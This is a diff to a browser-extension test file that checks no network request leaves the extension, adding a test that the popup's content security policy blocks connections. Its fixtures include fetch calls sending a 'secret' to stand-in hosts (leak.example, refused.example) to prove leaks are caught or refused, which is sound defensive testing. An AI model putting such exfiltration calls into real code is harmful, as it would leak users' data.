@@ -46,9 +46,22 @@ inEachBrowser('no request leaves the extension', (session) => {
     expect(new Set(strangers)).toEqual(new Set(strangers.filter((host) => host === 'calendar.google.com')));
   });
 
-  it('or this test would see it', async () => {
+  it('as the browser refuses its pages any connection', async () => {
     const popup = await session().openExtensionPage('popup.html');
-    await popup.run(() => void fetch('https://leak.example/?secret').catch(() => undefined));
+    const directive = await popup.run(
+      () =>
+        new Promise<string>((refused) => {
+          addEventListener('securitypolicyviolation', (event) => refused(event.effectiveDirective));
+          void fetch('https://refused.example/?secret').catch(() => undefined);
+        }),
+    );
+    expect(directive).toBe('connect-src');
+    expect(session().outside.asked).not.toContain('refused.example');
+  });
+
+  it('or this test would see it', async () => {
+    const tab = await session().newPage();
+    await tab.run(() => void fetch('https://leak.example/?secret', { mode: 'no-cors' }).catch(() => undefined));
     await until(() => session().outside.asked.includes('leak.example'), 'the leak to be seen');
     const page = await openCalendar(session(), samplePage('2026-09-14'));
     const asked: string[] = [];
